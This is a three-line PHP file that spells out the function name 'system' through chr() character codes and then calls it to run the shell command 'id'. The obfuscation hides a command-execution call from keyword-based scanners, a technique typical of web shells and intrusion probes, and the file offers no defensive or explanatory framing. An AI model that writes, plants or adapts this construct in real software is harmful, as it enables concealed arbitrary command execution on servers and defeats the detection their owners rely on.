<?php
$f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);
$f("id");
